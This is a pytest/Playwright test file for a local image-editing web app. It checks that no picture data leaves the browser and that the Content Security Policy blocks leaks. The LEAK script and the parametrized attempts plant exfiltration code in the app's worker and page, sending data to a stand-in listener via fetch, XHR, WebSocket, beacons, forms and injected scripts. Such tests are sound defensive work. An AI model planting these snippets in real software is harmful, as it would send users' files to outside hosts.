"""No byte of a picture leaves the machine.

Seen three ways, none of which trusts the page: what Playwright sees of the page and its worker,
what the server was asked for, and Chromium's own log of the network. A planted leak shows that
each of them would have noticed.
"""

from __future__ import annotations

import re
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from browsing.avif import small_avif
from browsing.chromium import launch
from browsing.console import Console
from browsing.ear import Ear
from browsing.files import alpha_png_with_profile, small_jpeg, small_png
from browsing.fixtures import DESKTOP, NewStudio
from browsing.netlog import Asked, asked
from browsing.studio import Studio
from playwright.sync_api import Playwright, Request
from urushi_build.server import LoggedRequest, Override, SiteServer

WORKER = "js/engine/worker.js"


@dataclass
class Seen:
    """What each detector saw between choosing a file and having saved the result."""

    page: list[str] = field(default_factory=list)
    server: list[LoggedRequest] = field(default_factory=list)
    network: list[Asked] = field(default_factory=list)


@contextmanager
def detectors(
    playwright: Playwright,
    site: SiteServer,
    console: Console,
    log: Path,
    prepare: Callable[[Studio], None],
) -> Iterator[tuple[Studio, Seen]]:
    """Open a page in a browser of its own that logs its network; `seen` is filled at the end.

    What is seen counts from when `prepare` returns.
    """
    browser = launch(
        playwright,
        f"--log-net-log={log}",
        "--net-log-capture-mode=IncludeSensitive",
    )
    seen = Seen()
    try:
        context = browser.new_context(locale="en-US", viewport=DESKTOP)
        console.follow(context)
        studio = Studio(console.new_page(context), site.url).open()
        prepare(studio)
        start, former = time.time(), len(site.requests)

        def note(request: Request) -> None:
            if not request.url.startswith(("blob:", "data:")):
                seen.page.append(request.url)

        context.on("request", note)
        yield studio, seen
        studio.page.wait_for_timeout(500)
        end = time.time()
        seen.server = site.requests[former:]
    finally:
        browser.close()
    seen.network = [request for request in asked(log) if start <= request.time <= end]


def test_no_request_between_choosing_and_saving(
    playwright: Playwright, own_site: SiteServer, console: Console, tmp_path: Path
) -> None:
    log = tmp_path / "net.json"

    def prepare(studio: Studio) -> None:
        # Whatever the page wants for itself, it has by now.
        studio.offline_ready()
        studio.page.reload()
        studio.ready()
        studio.page.wait_for_timeout(500)

    with detectors(playwright, own_site, console, log, prepare) as (studio, seen):
        studio.add(alpha_png_with_profile(), small_jpeg(), small_avif())
        studio.previewed()
        studio.by("preset-strong").check(force=True)
        studio.by("zoom-100").click()
        studio.by("diff-toggle").click()
        studio.previewed()
        studio.by("measure").click()
        studio.press("coat-all")
        studio.settle("coated")
        assert studio.state("s.pictures.map(({ info }) => info.format)")[-1] == "browser"
        studio.save()
        studio.by("lang-ja").click()
        studio.by("theme").click()
    assert seen.page == []
    assert seen.server == []
    assert seen.network == []
    # The log is alive and reads as assumed: the visit itself is in it.
    visit = [request.url for request in asked(log)]
    assert own_site.url + WORKER in visit
    # And nothing of the whole visit went to anybody but the site.
    assert [url for url in visit if not url.startswith((own_site.url, "blob:"))] == []


def test_who_is_in_a_hurry_gives_nothing_away_either(
    playwright: Playwright, own_site: SiteServer, dist: Path, console: Console, tmp_path: Path
) -> None:
    log = tmp_path / "net.json"
    # No preparation: the file is chosen while the site still stores itself for later.
    with detectors(playwright, own_site, console, log, lambda _: None) as (studio, seen):
        studio.add_and_see(small_png())
        studio.coat_and_save()
    for url in [*seen.page, *(request.url for request in seen.network)]:
        # The site's own files, by their bare names: a request cannot carry anything.
        assert url.startswith(own_site.url), url
        assert (dist / (url.removeprefix(own_site.url) or "index.html")).is_file(), url
    assert {request.method for request in seen.network} <= {"GET"}


# Every way out that a worker has, tried as soon as a picture is given to it.
LEAK = """
addEventListener("message", ({ data }) => {
  if (data.type !== "open") return;
  const to = (scheme, way) => `${scheme}://%s/${way}?${new Uint8Array(data.data ?? 0).length}`;
  const tries = [
    () => fetch(to("http", "fetch"), { method: "POST", mode: "no-cors", body: "picture" }),
    () => { const x = new XMLHttpRequest(); x.open("POST", to("http", "xhr")); x.send("picture"); },
    () => new WebSocket(to("ws", "socket")),
    () => new EventSource(to("http", "events")),
    () => import(to("http", "import")),
    () => new Worker(to("http", "worker")),
    () => importScripts(to("http", "scripts")),
  ];
  for (const attempt of tries) {
    try { Promise.resolve(attempt()).catch(() => {}); } catch {}
  }
});
"""
REFUSALS = (
    "content security policy",
    "refused to",
    "violates the following",
    "net::ERR_",
    "websocket connection to",
    "CORS policy",
    "failed to load resource",
    "could not be loaded",
    "EventSource's response has a MIME type",
)


# The first visit is meant: no headers of the service worker, only the page's own policy.
NO_SERVICE_WORKER = Override(body=b"addEventListener('fetch', () => {});")


def _plant(site: SiteServer, ear: Ear, dist: Path) -> None:
    script = (dist / WORKER).read_text("utf-8") + LEAK % ear.origin
    site.overrides[WORKER] = Override(body=script.encode())


def _strip_policy(site: SiteServer, dist: Path) -> None:
    html = (dist / "index.html").read_text("utf-8")
    bare, count = re.subn(r"<meta\s+http-equiv=\"Content-Security-Policy\"[^>]*>", "", html)
    assert count == 1
    site.overrides[""] = site.overrides["index.html"] = Override(body=bare.encode())


def test_a_leaking_worker_gets_nothing_out(
    new_studio: NewStudio, own_site: SiteServer, dist: Path, console: Console
) -> None:
    console.expect(*REFUSALS)
    with Ear() as ear:
        _plant(own_site, ear, dist)
        own_site.overrides["sw.js"] = NO_SERVICE_WORKER
        studio = new_studio(own_site, service_workers="allow").open()
        studio.add_and_see(small_png())
        studio.page.wait_for_timeout(1000)
        assert ear.heard == []
    # It was the policy that held: the browser says so.
    assert any("Content Security Policy" in text for text in console.complaints)
    assert studio.coat_and_save().name == "cat.urushi.png"


def test_without_the_policy_the_leak_would_be_seen(
    playwright: Playwright, own_site: SiteServer, dist: Path, console: Console, tmp_path: Path
) -> None:
    console.expect(*REFUSALS)
    log = tmp_path / "net.json"
    own_site.overrides["sw.js"] = NO_SERVICE_WORKER
    with Ear() as ear:
        _plant(own_site, ear, dist)
        _strip_policy(own_site, dist)
        with detectors(playwright, own_site, console, log, lambda _: None) as (studio, seen):
            studio.add_and_see(small_png())
            studio.page.wait_for_timeout(1000)
        heard = " ".join(ear.heard)
    for way in ("fetch", "xhr", "socket", "events", "import"):
        assert f"/{way}?" in heard, f"the control's {way} did not arrive"
    assert any(ear.origin in url for url in seen.page)
    logged = " ".join(request.url for request in seen.network)
    for way in ("fetch", "xhr", "socket", "events", "import"):
        assert f"{ear.origin}/{way}?" in logged, f"the log has nothing of the control's {way}"


@pytest.mark.parametrize(
    "attempt",
    [
        "() => void navigator.sendBeacon('http://{to}/beacon', 'picture')",
        "() => void (new Image().src = 'http://{to}/image')",
        "() => fetch('http://{to}/fetch', {{ mode: 'no-cors' }}).catch(() => {{}})",
        "() => void document.body.append(Object.assign(document.createElement('iframe'),"
        " {{ src: 'http://{to}/frame' }}))",
        "() => {{ const form = Object.assign(document.createElement('form'),"
        " {{ method: 'POST', action: 'http://{to}/form', target: '_blank' }});"
        " document.body.append(form); form.submit(); form.remove(); }}",
        "() => void document.head.append(Object.assign(document.createElement('link'),"
        " {{ rel: 'stylesheet', href: 'http://{to}/style' }}))",
        "() => void document.head.append(Object.assign(document.createElement('script'),"
        " {{ src: 'http://{to}/script' }}))",
    ],
    ids=["beacon", "image", "fetch", "frame", "form", "style", "script"],
)
def test_the_page_itself_gets_nothing_out(studio: Studio, console: Console, attempt: str) -> None:
    console.expect(*REFUSALS)
    with Ear() as ear:
        studio.page.evaluate(attempt.format(to=ear.origin))
        studio.page.wait_for_timeout(300)
        assert ear.heard == []
        studio.page.close()  # the next test is not to find what was put into it
    assert any("Content Security Policy" in text for text in console.complaints)
